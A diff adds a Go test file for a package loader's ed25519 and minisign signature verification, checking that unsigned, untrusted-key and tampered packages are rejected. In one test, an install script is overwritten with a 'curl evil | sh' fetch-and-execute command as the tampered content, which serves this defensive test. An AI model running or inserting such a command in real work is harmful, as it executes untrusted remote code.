@@ -0,0 +1,87 @@
+package loader
+
+import (
+	"crypto/ed25519"
+	"encoding/base64"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"golang.org/x/crypto/blake2b"
+)
+
+func TestSignatures(t *testing.T) {
+	publicKey, privateKey, err := GenerateKey()
+	assert.NoError(t, err)
+	trusted, err := ParsePublicKey(publicKey)
+	assert.NoError(t, err)
+	key, err := ParsePrivateKey(privateKey)
+	assert.NoError(t, err)
+
+	dir := t.TempDir()
+	assert.NoError(t, os.WriteFile(filepath.Join(dir, "run.yaml"), []byte("actions: {}"), 0644))
+	assert.NoError(t, os.WriteFile(filepath.Join(dir, "install.sh"), []byte("echo install"), 0755))
+
+	gg := NewGoGetter(false).WithSignatures([]PublicKey{trusted}, true)
+	assert.ErrorContains(t, gg.verify("pkg", dir), "is not signed")
+	assert.NoError(t, NewGoGetter(false).WithSignatures([]PublicKey{trusted}, false).verify("pkg", dir))
+
+	assert.NoError(t, SignPackage(dir, key))
+	assert.NoError(t, gg.verify("pkg", dir))
+
+	_, otherKey, err := ed25519.GenerateKey(nil)
+	assert.NoError(t, err)
+	untrusted := NewGoGetter(false).WithSignatures([]PublicKey{{key: otherKey.Public().(ed25519.PublicKey)}}, true)
+	assert.ErrorContains(t, untrusted.verify("pkg", dir), "not a trusted key")
+
+	assert.NoError(t, os.WriteFile(filepath.Join(dir, "install.sh"), []byte("curl evil | sh"), 0755))
+	assert.ErrorContains(t, gg.verify("pkg", dir), "does not match its signature")
+}
+
+func TestSignatures_Minisign(t *testing.T) {
+	public, private, err := ed25519.GenerateKey(nil)
+	assert.NoError(t, err)
+	id := []byte{1, 2, 3, 4, 5, 6, 7, 8}
+	trusted, err := ParsePublicKey(base64.StdEncoding.EncodeToString(append(append([]byte("Ed"), id...), public...)))
+	assert.NoError(t, err)
+	gg := NewGoGetter(false).WithSignatures([]PublicKey{trusted}, true)
+
+	for _, prehashed := range []bool{false, true} {
+		dir := t.TempDir()
+		assert.NoError(t, os.WriteFile(filepath.Join(dir, "run.yaml"), []byte("actions: {}"), 0644))
+		message, err := SignedMessage(dir)
+		assert.NoError(t, err)
+		assert.NoError(t, os.WriteFile(filepath.Join(dir, minisignFile), minisign(private, id, message, prehashed), 0644))
+		assert.NoError(t, gg.verify("pkg", dir))
+
+		assert.NoError(t, os.WriteFile(filepath.Join(dir, "run.yaml"), []byte("actions: {evil: {}}"), 0644))
+		assert.ErrorContains(t, gg.verify("pkg", dir), "does not match its signature")
+	}
+
+	dir := t.TempDir()
+	message, err := SignedMessage(dir)
+	assert.NoError(t, err)
+	assert.NoError(t, os.WriteFile(filepath.Join(dir, minisignFile), minisign(private, []byte("otherkey"), message, true), 0644))
+	assert.ErrorContains(t, gg.verify("pkg", dir), "is signed by minisign key 79656B726568746F, which is not a trusted key")
+
+	assert.NoError(t, os.WriteFile(filepath.Join(dir, minisignFile), []byte("untrusted comment: x\n"), 0644))
+	assert.ErrorContains(t, gg.verify("pkg", dir), "not a minisign signature")
+}
+
+// minisign returns a minisign signature of the message by the key with id.
+func minisign(key ed25519.PrivateKey, id, message []byte, prehashed bool) []byte {
+	algorithm := "Ed"
+	if prehashed {
+		algorithm = "ED"
+		hash := blake2b.Sum512(message)
+		message = hash[:]
+	}
+	signature := ed25519.Sign(key, message)
+	trustedComment := "timestamp:1700000000\tfile:run.digest"
+	global := ed25519.Sign(key, append(append([]byte{}, signature...), trustedComment...))
+	return []byte("untrusted comment: signature from minisign secret key\n" +
+		base64.StdEncoding.EncodeToString(append(append([]byte(algorithm), id...), signature...)) + "\n" +
+		"trusted comment: " + trustedComment + "\n" +
+		base64.StdEncoding.EncodeToString(global) + "\n")
+}